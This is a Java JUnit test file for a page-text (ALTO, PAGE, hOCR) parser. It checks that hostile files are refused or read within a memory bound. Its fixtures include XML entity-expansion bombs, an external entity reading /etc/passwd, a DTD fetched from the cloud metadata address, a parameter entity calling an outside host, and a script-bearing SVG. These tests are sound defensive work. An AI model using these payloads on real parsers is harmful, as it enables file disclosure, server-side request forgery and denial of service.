package org.mouseion.formats.pages;

import static org.assertj.core.api.Assertions.assertThat;

import java.io.IOException;
import java.io.InputStream;
import java.lang.management.ManagementFactory;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.stream.Stream;
import org.junit.jupiter.api.DynamicTest;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.TestFactory;
import org.mouseion.formats.pages.PagesOutcome.Read;
import org.mouseion.formats.pages.PagesOutcome.Unreadable;

/// Files of page texts made to exhaust or to mislead: refused, or read with what is nonsense left out.
class HostilePagesTest {

    private static final String ALTO =
            "<alto><Layout><Page WIDTH='100' HEIGHT='100'><TextBlock><TextLine>%s</TextLine></TextBlock></Page></Layout></alto>";
    private static final String PAGE = "<PcGts><Page imageWidth='10' imageHeight='10'>%s</Page></PcGts>";

    private static Map<String, String> refused() {
        Map<String, String> all = new LinkedHashMap<>();
        all.put(
                "a billion laughs",
                "<!DOCTYPE alto [<!ENTITY a 'ha'><!ENTITY b '&a;&a;&a;&a;'>]>" + ALTO.formatted("&b;"));
        all.put(
                "another file",
                "<!DOCTYPE alto [<!ENTITY x SYSTEM 'file:///etc/passwd'>]>"
                        + ALTO.formatted("<String CONTENT='&x;'/>"));
        all.put("an address", "<!DOCTYPE PcGts SYSTEM 'http://169.254.169.254/x.dtd'>" + PAGE.formatted(""));
        all.put(
                "parameter entities",
                "<!DOCTYPE alto [<!ENTITY % p SYSTEM 'http://x.example/p'>%p;]>" + ALTO.formatted(""));
        all.put(
                "a type behind remarks",
                "<!-- " + "x".repeat(9000) + " --><!DOCTYPE alto [<!ENTITY a 'b'>]>" + ALTO.formatted(""));
        all.put("an entity nobody declared", ALTO.formatted("<String CONTENT='&unknown;'/>"));
        all.put("a hundred thousand deep", "<alto>" + "<Layout>".repeat(100_000));
        all.put("blocks in blocks", "<alto><Layout><Page>" + "<ComposedBlock>".repeat(500) + "</Page></Layout></alto>");
        all.put("regions in regions", PAGE.formatted("<TextRegion>".repeat(5000) + "</TextRegion>".repeat(5000)));
        all.put("cut off in a word", "<alto><Layout><Page><TextBlock><TextLine><String CONTENT='a'");
        all.put("cut off in a page", "<PcGts><Page imageWidth='10' imageHeight='10'><TextRegion>");
        all.put("no page", "<alto><Layout/></alto>");
        all.put("a size below nothing", "<alto><Layout><Page WIDTH='-5' HEIGHT='10'/></Layout></alto>");
        all.put("another kind", "<svg><script>alert(1)</script></svg>");
        all.put("ends that do not match", "<alto><Layout></alto></Layout>");
        all.put("an attribute twice", ALTO.formatted("<String CONTENT='a' CONTENT='b'/>"));
        all.put(
                "an element in a text",
                PAGE.formatted(
                        "<TextRegion><TextLine><TextEquiv><Unicode><b/></Unicode></TextEquiv></TextLine></TextRegion>"));
        all.put("zeros", "\0\0\0\0 words \0");
        all.put("a hundred thousand attributes", "<alto><Layout><Page " + attributes() + "/></Layout></alto>");
        return all;
    }

    private static String attributes() {
        StringBuilder all = new StringBuilder();
        for (int i = 0; i < 100_000; i++) {
            all.append("a").append(i).append("='' ");
        }
        return all.toString();
    }

    private static Map<String, String> readWithCare() {
        Map<String, String> all = new LinkedHashMap<>();
        all.put(
                "places that are no numbers",
                ALTO.formatted("<String CONTENT='a' HPOS='NaN' VPOS='1e300' WIDTH='-4' HEIGHT='ten'/>"));
        all.put(
                "surenesses out of range",
                ALTO.formatted("<String CONTENT='a' WC='17'><ALTERNATIVE WC='-3'>b</ALTERNATIVE></String>"));
        all.put(
                "a million alternatives",
                ALTO.formatted("<String CONTENT='a'>" + many("<ALTERNATIVE>b%d</ALTERNATIVE>", 20_000) + "</String>"));
        all.put(
                "variants of forty letters",
                ALTO.formatted("<String CONTENT='a'>"
                        + "<Glyph CONTENT='a' GC='.5'><Variant CONTENT='b' VC='.5'/><Variant CONTENT='c' VC='.5'/></Glyph>"
                                .repeat(40)
                        + "</String>"));
        all.put("points in odd number", PAGE.formatted("<TextRegion><Coords points='1,2 3'/></TextRegion>"));
        all.put(
                "an order that goes in circles",
                PAGE.formatted(
                        "<ReadingOrder><OrderedGroup><RegionRefIndexed index='0' regionRef='a'/>"
                                + "<RegionRefIndexed index='1' regionRef='a'/></OrderedGroup></ReadingOrder><TextRegion id='a'/><TextRegion id='a'/>"));
        all.put("signs that turn the line round", ALTO.formatted("<String CONTENT='\u202Etxt.exe'/>"));
        all.put(
                "an index beyond all",
                PAGE.formatted(
                        "<TextRegion><TextLine><TextEquiv index='99999999999'><Unicode>a</Unicode></TextEquiv></TextLine></TextRegion>"));
        all.put(
                "a box from right to left",
                "<div class='ocr_page' title='bbox 0 0 9 9'><span class='ocr_line' title='bbox 9 9 1 1'>a</span></div>");
        all.put("a title of nonsense", "<div class='ocr_page' title='bbox a b c d; bbox; ;;;'>x</div>");
        return all;
    }

    private static String many(String each, int count) {
        StringBuilder all = new StringBuilder();
        for (int i = 0; i < count; i++) {
            all.append(each.formatted(i));
        }
        return all.toString();
    }

    @TestFactory
    Stream<DynamicTest> some_are_refused() {
        return refused().entrySet().stream()
                .map(each -> DynamicTest.dynamicTest(
                        each.getKey(),
                        () -> assertThat(bounded(each.getValue())).isInstanceOf(Unreadable.class)));
    }

    @Test
    void a_file_that_breaks_off_is_told_as_broken_and_not_as_one_with_entities() {
        for (String cut : List.of("<alto><Layout>", "<PcGts><Page imageWidth='10' imageHeight='10'><TextRegion>")) {
            assertThat(((Unreadable) bounded(cut)).trouble()).as(cut).isEqualTo(PagesTrouble.BROKEN);
        }
        assertThat(((Unreadable) bounded(ALTO.formatted("<String CONTENT='&unknown;'/>"))).trouble())
                .isEqualTo(PagesTrouble.DECLARES_ENTITIES);
    }

    @TestFactory
    Stream<DynamicTest> some_are_read_with_care() {
        return readWithCare().entrySet().stream()
                .map(each -> DynamicTest.dynamicTest(each.getKey(), () -> {
                    PagesOutcome outcome = bounded(each.getValue());
                    assertThat(outcome).isInstanceOf(Read.class);
                    ((Read) outcome)
                            .pages().stream()
                                    .flatMap(PageText::words)
                                    .forEach(word -> assertThat(word.readings()).hasSizeLessThanOrEqualTo(32));
                }));
    }

    private static PagesOutcome bounded(String file) {
        var threads = (com.sun.management.ThreadMXBean) ManagementFactory.getThreadMXBean();
        long before = threads.getCurrentThreadAllocatedBytes();
        PagesOutcome outcome = PageFilesTest.outcome(file);
        assertThat(threads.getCurrentThreadAllocatedBytes() - before).isLessThan(256L << 20);
        return outcome;
    }

    @Test
    void an_attribute_without_end_is_refused_before_memory_ends() throws IOException {
        InputStream endless = new InputStream() {
            private long given;

            @Override
            public int read() {
                String begin = "<alto><Layout><Page ID='";
                return given < begin.length() ? begin.charAt((int) given++) : given++ < 3L << 28 ? 'a' : -1;
            }

            @Override
            public int read(byte[] into, int offset, int length) {
                for (int i = 0; i < length; i++) {
                    int next = read();
                    if (next < 0) {
                        return i == 0 ? -1 : i;
                    }
                    into[offset + i] = (byte) next;
                }
                return length;
            }
        };
        assertThat(PageFiles.read(endless)).isInstanceOf(Unreadable.class);
    }
}
